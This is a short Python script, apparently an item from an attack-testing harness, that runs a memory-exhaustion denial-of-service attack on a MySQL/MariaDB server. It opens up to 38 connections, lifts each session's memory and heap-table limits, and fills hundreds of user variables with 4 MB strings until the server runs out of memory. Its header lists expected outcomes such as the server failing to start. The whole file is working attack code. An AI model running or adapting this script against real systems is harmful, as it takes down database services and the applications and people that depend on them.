"""Keeps variables and temporary tables in the server's memory until there is none.

Earns: 0
Says: filled the database server|not start|signal|memory
"""

from contextlib import suppress

import pymysql
from notes import app, connect

print("TRIED", flush=True)
held = []
for _ in range(38):
    with suppress(pymysql.MySQLError):
        held.append(connect())
        cursor = held[-1].cursor()
        cursor.execute("SET SESSION max_session_mem_used = 1 << 40, max_heap_table_size = 1 << 40")
        for number in range(100):
            cursor.execute(f"SET @v{number} = REPEAT('x', 4000000)")
raise SystemExit("it did not get more")
